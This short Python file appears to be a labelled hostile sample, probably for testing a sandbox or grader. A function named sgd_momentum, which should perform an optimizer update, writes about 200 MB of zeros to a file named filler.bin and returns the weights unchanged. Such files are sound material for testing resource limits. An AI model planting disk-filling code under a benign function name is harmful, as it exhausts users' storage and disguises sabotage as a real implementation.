"""Hostile: fills the disk."""


def sgd_momentum(w, dw, config=None):
    block = b"\0" * (1 << 20)
    with open("filler.bin", "wb") as handle:
        for _ in range(200):
            handle.write(block)
    return w, config
